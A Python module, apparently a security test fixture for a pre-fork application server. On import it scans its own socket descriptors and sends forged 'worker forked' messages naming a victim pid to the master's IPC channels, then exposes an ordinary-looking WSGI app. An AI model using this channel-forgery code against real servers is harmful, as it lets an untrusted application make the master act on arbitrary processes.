# SPDX-License-Identifier: MIT
"""While it is imported it tells the master, in the words of core/work/channel.h and on every socket that
it finds, that workers with the pid of $VICTIM were forked."""
import os
import socket
import stat
import struct

FORKED = 2
MESSAGE = "@iiiqq512x"     # kind, slot, worker, value, mercy_ms, text


def forge(fd, pid):
    with socket.socket(fileno=os.dup(fd)) as s:
        if s.family != socket.AF_UNIX or s.type != socket.SOCK_SEQPACKET:
            return 0
        for slot in range(-1, 4):
            s.send(struct.pack(MESSAGE, FORKED, slot, 0, pid, 0))
        return 1


def forge_everywhere(pid):
    sockets = [int(fd) for fd in os.listdir("/proc/self/fd")
               if os.path.exists(f"/proc/self/fd/{fd}")
               and stat.S_ISSOCK(os.fstat(int(fd)).st_mode)]
    return sum(forge(fd, pid) for fd in sockets)


print("forged on", forge_everywhere(int(os.environ["VICTIM"])), "channels", flush=True)


def application(_environ, start_response):
    start_response("200 OK", [])
    return [b"served\n"]
